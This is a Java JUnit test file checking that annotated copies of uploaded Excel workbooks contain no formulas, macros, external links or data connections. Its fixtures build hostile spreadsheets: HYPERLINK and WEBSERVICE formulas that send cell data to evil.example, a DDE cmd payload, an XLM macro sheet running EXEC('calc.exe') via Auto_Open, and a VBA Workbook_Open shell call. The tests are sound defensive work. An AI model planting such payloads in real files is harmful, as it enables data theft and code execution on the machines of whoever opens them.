package vn.qms.stats.ingest.annotate;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ooxml.POIXMLTypeLoader;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackageAccess;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.FormulaError;
import org.apache.poi.ss.usermodel.Hyperlink;
import org.apache.poi.ss.usermodel.IndexedColors;
import org.apache.poi.ss.usermodel.Name;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.util.CellReference;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFName;
import org.apache.poi.xssf.usermodel.XSSFRelation;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbookType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTCell;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTDefinedName;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTDefinedNames;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTSheet;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTSheets;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTWorkbook;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.WorkbookDocument;

import vn.qms.stats.ingest.Problem;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Nothing from an input runs in its annotated copy: no formula, no macro, no link out.
 */
class AnnotatedCopyInertTests {

	private static final String SHEET = "BM01";

	private static final String EVIL = "evil.example";

	@TempDir
	Path folder;

	@Test
	void shouldTurnEveryFormulaOfAnXlsxIntoItsLastValueAndDropLinksOut() throws Exception {
		// given: hostile formulas with their saved values, names, links and connections
		Path file = this.folder.resolve("formulas.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook()) {
			XSSFSheet sheet = workbook.createSheet(SHEET);
			for (int r = 9; r < 25; r++) {
				Row row = sheet.createRow(r);
				for (int c = 0; c < 6; c++) {
					row.createCell(c).setCellValue(r * 10 + c);
				}
			}
			formula(sheet, "Z1", "HYPERLINK(\"http://evil.example/steal?d=\"&C11,\"Bam vao day\")", "str",
					"Bam vao day");
			formula(sheet, "Z2", "cmd|' /c calc'!A1", null, "0");
			formula(sheet, "Z3", "WEBSERVICE(\"http://evil.example/\"&B10)", "e", "#VALUE!");
			formula(sheet, "Z4", "[1]Sheet1!$A$1", null, "7");
			formula(sheet, "Z5", "B10>0", "b", "1");
			formula(sheet, "Z6", "NOW()", null, null);
			formula(sheet, "Z7", "SUM(A10:B10)", null, "191");
			formula(sheet, "Z8", "WEBSERVICE(\"http://evil.example/empty\")", null, "");
			sharedFormula(sheet);
			XSSFName name = workbook.createName();
			name.setNameName("Kho");
			name.setRefersToFormula("HYPERLINK(\"http://evil.example/name\",\"x\")");
			XSSFName autoOpen = workbook.createName();
			autoOpen.setNameName("Auto_Open");
			autoOpen.setRefersToFormula(SHEET + "!$A$10");
			workbook.setPrintArea(0, "$A$1:$F$25");
			link(workbook, sheet, "A20", HyperlinkType.URL, "http://evil.example/link");
			link(workbook, sheet, "A21", HyperlinkType.FILE, "file:///C:/Windows/System32/calc.exe");
			link(workbook, sheet, "A22", HyperlinkType.DOCUMENT, "'" + SHEET + "'!A10");
			connections(workbook);
			workbook.linkExternalWorkbook("http://evil.example/book.xlsx", new XSSFWorkbook());
			try (OutputStream out = Files.newOutputStream(file)) {
				workbook.write(out);
			}
		}
		assertThat(CopiedWorkbooks.entries(file)).anyMatch((entry) -> entry.contains(EVIL));
		// when
		Annotation annotation = new AnnotatedCopy().write(file, List.of(wrong("E12"), noPeriod()));
		// then
		assertThat(annotation.copy()).isNotNull();
		try (Workbook copy = open(annotation.copy())) {
			assertThat(formulaCells(copy)).isEmpty();
			assertThat(cell(copy, "Z1").getStringCellValue()).isEqualTo("Bam vao day");
			assertThat(cell(copy, "Z2").getNumericCellValue()).isZero();
			assertThat(cell(copy, "Z3").getErrorCellValue()).isEqualTo(FormulaError.VALUE.getCode());
			assertThat(cell(copy, "Z4").getNumericCellValue()).isEqualTo(7);
			assertThat(cell(copy, "Z5").getBooleanCellValue()).isTrue();
			assertThat(cell(copy, "Z6").getCellType()).isEqualTo(CellType.BLANK);
			assertThat(cell(copy, "Z7").getNumericCellValue()).isEqualTo(191);
			assertThat(cell(copy, "Z8").getCellType()).isEqualTo(CellType.BLANK);
			assertThat(List.of(cell(copy, "G10"), cell(copy, "G11"), cell(copy, "G12")))
				.extracting(Cell::getNumericCellValue)
				.containsExactly(180.0, 200.0, 220.0);
			assertThat(copy.getAllNames()).extracting(Name::getNameName).containsExactly("_xlnm.Print_Area");
			assertThat(copy.getPrintArea(copy.getSheetIndex(SHEET))).isEqualTo("'" + SHEET + "'!$A$1:$F$25");
			assertThat(cell(copy, "A20").getHyperlink()).isNull();
			assertThat(cell(copy, "A20").getNumericCellValue()).isEqualTo(190);
			assertThat(cell(copy, "A21").getHyperlink()).isNull();
			assertThat(cell(copy, "A22").getHyperlink().getAddress()).isEqualTo("'" + SHEET + "'!A10");
			assertThat(cell(copy, "E12").getCellStyle().getFillForegroundColor())
				.isEqualTo(IndexedColors.RED.getIndex());
			assertThat(cell(copy, "E12").getCellComment()).isNotNull();
			assertThat(copy.getSheetAt(0).getSheetName()).isEqualTo(ErrorSheet.NAME);
		}
		assertThat(CopiedWorkbooks.entries(annotation.copy())).noneMatch((entry) -> entry.contains(EVIL))
			.noneMatch((entry) -> entry.startsWith("xl/externalLinks/"))
			.noneMatch((entry) -> entry.startsWith("xl/connections.xml"))
			.noneMatch((entry) -> entry.startsWith("xl/calcChain.xml"));
	}

	@Test
	void shouldLeaveTheExcel4MacroSheetOfAnXlsmOutOfItsCopy() throws Exception {
		// given: a very hidden macro sheet with EXEC("calc.exe") that Auto_Open starts
		Path file = this.folder.resolve("xlm.xlsm");
		try (XSSFWorkbook workbook = new XSSFWorkbook(XSSFWorkbookType.XLSM)) {
			XSSFSheet sheet = workbook.createSheet(SHEET);
			sheet.createRow(9).createCell(4).setCellValue(30);
			macroSheet(workbook, 1, "M");
			XSSFName autoOpen = workbook.createName();
			autoOpen.setNameName("Auto_Open");
			autoOpen.setRefersToFormula(SHEET + "!$E$10");
			try (OutputStream out = Files.newOutputStream(file)) {
				workbook.write(out);
			}
		}
		assertThat(CopiedWorkbooks.entries(file)).anyMatch((content) -> content.contains("calc.exe"));
		// when
		Annotation annotation = new AnnotatedCopy().write(file, List.of(wrong("E10"), noPeriod()));
		// then
		assertThat(annotation.copy()).isEqualTo(this.folder.resolve("xlm.xlsm.annotated.xlsx"));
		assertThat(CopiedWorkbooks.entries(annotation.copy())).noneMatch((content) -> content.contains("calc.exe"))
			.noneMatch((content) -> content.startsWith("xl/macrosheets/"));
		try (Workbook copy = open(annotation.copy())) {
			assertThat(copy.getAllNames()).isEmpty();
			assertThat(copy.getNumberOfSheets()).isEqualTo(2);
			assertThat(copy.getSheetAt(0).getSheetName()).isEqualTo(ErrorSheet.NAME);
			assertThat(copy.getSheetAt(1).getSheetName()).isEqualTo(SHEET);
			assertThat(cell(copy, "E10").getCellComment()).isNotNull();
		}
	}

	@Test
	void shouldKeepTheNamesOfTheSheetsBetweenAndAfterSeveralMacroSheets() throws Exception {
		// given: sheets M1 (macro), BM01, M2 (macro), Data; print areas on BM01 and
		// Data, a name Kho on M2 and another Kho on Data, each scoped by its sheet's
		// position among all four, as Excel writes them
		Path file = withMacroSheets(this.folder.resolve("xlm-names.xlsm"), (workbook) -> {
		}, 0, 2);
		addLocalNames(file, new LocalName("_xlnm.Print_Area", 1, "'" + SHEET + "'!$A$1:$F$25"),
				new LocalName("_xlnm.Print_Area", 3, "Data!$A$1:$B$2"), new LocalName("Kho", 2, "M2!$A$1"),
				new LocalName("Kho", 3, "Data!$B$2"));
		// when
		Annotation annotation = new AnnotatedCopy().write(file, List.of(wrong("E10"), noPeriod()));
		// then
		assertThat(annotation.copy()).isEqualTo(this.folder.resolve("xlm-names.xlsm.annotated.xlsx"));
		assertThat(CopiedWorkbooks.entries(annotation.copy())).noneMatch((content) -> content.contains("calc.exe"))
			.noneMatch((content) -> content.startsWith("xl/macrosheets/"));
		try (Workbook copy = open(annotation.copy())) {
			assertThat(copy.getNumberOfSheets()).isEqualTo(3);
			assertThat(copy.getSheetName(0)).isEqualTo(ErrorSheet.NAME);
			assertThat(copy.getSheetName(1)).isEqualTo(SHEET);
			assertThat(copy.getSheetName(2)).isEqualTo("Data");
			assertThat(copy.getPrintArea(1)).isEqualTo("'" + SHEET + "'!$A$1:$F$25");
			assertThat(copy.getPrintArea(2)).isEqualTo("Data!$A$1:$B$2");
			assertThat(copy.getNames("Kho")).singleElement().satisfies((name) -> {
				assertThat(name.getSheetIndex()).isEqualTo(2);
				assertThat(name.getRefersToFormula()).isEqualTo("Data!$B$2");
			});
			assertThat(cell(copy, "E10").getCellComment()).isNotNull();
		}
	}

	@Test
	void shouldOpenTheCopyOnTheSheetTheFileOpenedOnWhenMacroSheetsBeforeItAreRemoved() throws Exception {
		// given: sheets M1, M2 (macro), BM01, Data; the file opens on Data (its fourth
		// tab), and every problem is at a cell (no error sheet comes first)
		Path file = withMacroSheets(this.folder.resolve("xlm-active.xlsm"), (workbook) -> {
			workbook.getCTWorkbook().getBookViews().getWorkbookViewArray(0).setActiveTab(3);
			workbook.getCTWorkbook().getBookViews().getWorkbookViewArray(0).setFirstSheet(2);
		}, 0, 1);
		// when
		Annotation annotation = new AnnotatedCopy().write(file, List.of(wrong("E10")));
		// then the copy of two sheets opens on Data, its tabs shown from BM01
		try (XSSFWorkbook copy = (XSSFWorkbook) open(annotation.copy())) {
			assertThat(copy.getNumberOfSheets()).isEqualTo(2);
			assertThat(copy.getSheetName(copy.getActiveSheetIndex())).isEqualTo("Data");
			assertThat(copy.getFirstVisibleTab()).isZero();
		}
	}

	@Test
	void shouldWriteAnXlsCopyWithoutTheMacrosOrFormulasOfTheFile() throws Exception {
		// given: an .xls with a HYPERLINK formula, a sum, and a VBA project that runs on
		// open
		Path file = this.folder.resolve("macro.xls");
		byte[] workbookBytes;
		try (HSSFWorkbook workbook = new HSSFWorkbook();
				org.apache.commons.io.output.UnsynchronizedByteArrayOutputStream out = org.apache.commons.io.output.UnsynchronizedByteArrayOutputStream
					.builder()
					.get()) {
			Sheet sheet = workbook.createSheet(SHEET);
			Row row = sheet.createRow(9);
			row.createCell(0).setCellValue(30);
			row.createCell(1).setCellValue(12);
			Cell link = row.createCell(2);
			link.setCellFormula("HYPERLINK(\"http://evil.example/x\",\"Xem\")");
			link.setCellValue("Xem");
			Cell sum = row.createCell(3);
			sum.setCellFormula("SUM(A10:B10)");
			sum.setCellValue(42);
			Name name = workbook.createName();
			name.setNameName("Auto_Open");
			name.setRefersToFormula(SHEET + "!$A$10");
			workbook.write(out);
			workbookBytes = out.toByteArray();
		}
		try (POIFSFileSystem fs = new POIFSFileSystem(new ByteArrayInputStream(workbookBytes));
				OutputStream out = Files.newOutputStream(file)) {
			DirectoryEntry vba = fs.getRoot().createDirectory("_VBA_PROJECT_CUR");
			vba.createDocument("PROJECT",
					new ByteArrayInputStream("ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nName=\"VBAProject\"\r\n"
						.getBytes(StandardCharsets.US_ASCII)));
			vba.createDirectory("VBA")
				.createDocument("ThisWorkbook",
						new ByteArrayInputStream("Sub Workbook_Open()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n"
							.getBytes(StandardCharsets.US_ASCII)));
			fs.writeFilesystem(out);
		}
		// when
		Annotation annotation = new AnnotatedCopy().write(file, List.of(wrong("E10")));
		// then
		assertThat(annotation.copy()).isEqualTo(this.folder.resolve("macro.xls.annotated.xls"));
		try (POIFSFileSystem fs = new POIFSFileSystem(annotation.copy().toFile(), true)) {
			assertThat(fs.getRoot().getEntryNames()).doesNotContain("_VBA_PROJECT_CUR");
		}
		try (Workbook copy = open(annotation.copy())) {
			assertThat(copy).isInstanceOf(HSSFWorkbook.class);
			assertThat(formulaCells(copy)).isEmpty();
			assertThat(cell(copy, "C10").getStringCellValue()).isEqualTo("Xem");
			assertThat(cell(copy, "D10").getNumericCellValue()).isEqualTo(42);
			assertThat(copy.getAllNames()).isEmpty();
			assertThat(cell(copy, "E10").getCellStyle().getFillForegroundColor())
				.isEqualTo(IndexedColors.RED.getIndex());
		}
		String bytes = new String(Files.readAllBytes(annotation.copy()), StandardCharsets.ISO_8859_1);
		assertThat(bytes).doesNotContain(EVIL)
			.doesNotContain(new String(EVIL.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1))
			.doesNotContain("calc.exe");
	}

	/**
	 * An Excel 4.0 macro sheet whose A1 runs {@code EXEC("calc.exe")}, at this position
	 * among the sheets of the workbook.
	 */
	/**
	 * Sheets BM01 (30 at E10) and Data (7 at B2), with macro sheets M1, M2... put at
	 * these positions among all, then {@code before}; written to {@code file}.
	 */
	private static Path withMacroSheets(Path file, Consumer<XSSFWorkbook> before, int... positions) throws Exception {
		try (XSSFWorkbook workbook = new XSSFWorkbook(XSSFWorkbookType.XLSM)) {
			workbook.createSheet(SHEET).createRow(9).createCell(4).setCellValue(30);
			workbook.createSheet("Data").createRow(1).createCell(1).setCellValue(7);
			for (int i = 0; i < positions.length; i++) {
				macroSheet(workbook, positions[i], "M" + (i + 1));
			}
			before.accept(workbook);
			try (OutputStream out = Files.newOutputStream(file)) {
				workbook.write(out);
			}
		}
		return file;
	}

	private static void macroSheet(XSSFWorkbook workbook, int position, String name) throws Exception {
		CTSheets sheets = workbook.getCTWorkbook().getSheets();
		long sheetId = 1;
		for (CTSheet sheet : sheets.getSheetArray()) {
			sheetId = Math.max(sheetId, sheet.getSheetId() + 1);
		}
		PackagePart macros = workbook.getPackage()
			.createPart(PackagingURIHelper.createPartName("/xl/macrosheets/sheet" + sheetId + ".xml"),
					"application/vnd.ms-excel.macrosheet+xml");
		try (OutputStream out = macros.getOutputStream()) {
			out.write(("<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
					+ " xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\">"
					+ "<c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>")
				.getBytes(StandardCharsets.UTF_8));
		}
		String id = workbook.getPackagePart()
			.addRelationship(macros.getPartName(), TargetMode.INTERNAL, XSSFRelation.MACRO_SHEET_XML.getRelation())
			.getId();
		CTSheet entry = sheets.insertNewSheet(position);
		entry.setName(name);
		entry.setId(id);
		entry.setSheetId(sheetId);
	}

	/**
	 * Adds names to a saved workbook as Excel writes them: each scoped to its sheet by
	 * that sheet's position among all the sheets, macro sheets included
	 * ({@code localSheetId}), which POI's own API does not accept beyond the sheets it
	 * reads.
	 */
	private static void addLocalNames(Path file, LocalName... names) throws Exception {
		try (OPCPackage opc = OPCPackage.open(file.toFile(), PackageAccess.READ_WRITE)) {
			PackagePart part = opc.getPart(PackagingURIHelper.createPartName("/xl/workbook.xml"));
			WorkbookDocument document;
			try (InputStream in = part.getInputStream()) {
				document = WorkbookDocument.Factory.parse(in, POIXMLTypeLoader.DEFAULT_XML_OPTIONS);
			}
			CTWorkbook workbook = document.getWorkbook();
			CTDefinedNames defined = workbook.isSetDefinedNames() ? workbook.getDefinedNames()
					: workbook.addNewDefinedNames();
			for (LocalName name : names) {
				CTDefinedName entry = defined.addNewDefinedName();
				entry.setName(name.name());
				entry.setLocalSheetId(name.position());
				entry.setStringValue(name.reference());
			}
			try (OutputStream out = part.getOutputStream()) {
				document.save(out, POIXMLTypeLoader.DEFAULT_XML_OPTIONS);
			}
		}
	}

	private record LocalName(String name, int position, String reference) {
	}

	/** A cell with a formula and the value Excel saved for it, written as Excel does. */
	private static void formula(XSSFSheet sheet, String address, String formula, String type, String value) {
		CellReference reference = new CellReference(address);
		Row row = (sheet.getRow(reference.getRow()) != null) ? sheet.getRow(reference.getRow())
				: sheet.createRow(reference.getRow());
		CTCell ct = ((XSSFCell) row.createCell(reference.getCol())).getCTCell();
		ct.addNewF().setStringValue(formula);
		if (type != null) {
			ct.setT(org.openxmlformats.schemas.spreadsheetml.x2006.main.STCellType.Enum.forString(type));
		}
		if (value != null) {
			ct.setV(value);
		}
	}

	/** G10:G12 share one formula, =A10*2 ... as Excel writes a filled-down column. */
	private static void sharedFormula(XSSFSheet sheet) {
		for (int r = 9; r < 12; r++) {
			CTCell ct = ((XSSFCell) sheet.getRow(r).createCell(6)).getCTCell();
			var f = ct.addNewF();
			f.setT(org.openxmlformats.schemas.spreadsheetml.x2006.main.STCellFormulaType.SHARED);
			f.setSi(0);
			if (r == 9) {
				f.setRef("G10:G12");
				f.setStringValue("A10*2");
			}
			ct.setV(Integer.toString(r * 10 * 2));
		}
	}

	private static void link(Workbook workbook, Sheet sheet, String address, HyperlinkType type, String target) {
		CellReference reference = new CellReference(address);
		Hyperlink link = workbook.getCreationHelper().createHyperlink(type);
		link.setAddress(target);
		sheet.getRow(reference.getRow()).getCell(reference.getCol()).setHyperlink(link);
	}

	/**
	 * A web query the workbook refreshes from, as Excel keeps it in xl/connections.xml.
	 */
	private static void connections(XSSFWorkbook workbook) throws Exception {
		OPCPackage opc = workbook.getPackage();
		PackagePart part = opc.createPart(PackagingURIHelper.createPartName("/xl/connections.xml"),
				"application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml");
		try (OutputStream out = part.getOutputStream()) {
			out.write(("<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
					+ "<connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\">"
					+ "<webPr url=\"http://evil.example/query\"/></connection></connections>")
				.getBytes(StandardCharsets.UTF_8));
		}
		workbook.getPackagePart().addRelationship(part.getPartName(), TargetMode.INTERNAL, ExternalParts.CONNECTIONS);
	}

	private static List<String> formulaCells(Workbook workbook) {
		List<String> formulas = new ArrayList<>();
		for (Sheet sheet : workbook) {
			for (Row row : sheet) {
				for (Cell cell : row) {
					if (cell.getCellType() == CellType.FORMULA) {
						formulas.add(sheet.getSheetName() + "!" + cell.getAddress());
					}
				}
			}
		}
		return formulas;
	}

	private static Problem wrong(String address) {
		CellReference reference = new CellReference(address);
		return Problem.error("ingest.rule.not.greater", "E", "D", "30 > 12", "Số đã công bố", "Số bắt buộc")
			.inSheet(SHEET)
			.at(reference.getRow() + 1, reference.getCol(), "Số đã công bố", "30");
	}

	private static Problem noPeriod() {
		return Problem.error("ingest.title.period.missing").inSheet(SHEET);
	}

	private static Workbook open(Path file) throws IOException {
		return CopiedWorkbooks.open(file);
	}

	private static Cell cell(Workbook workbook, String address) {
		return CopiedWorkbooks.cell(workbook, SHEET, address);
	}

}
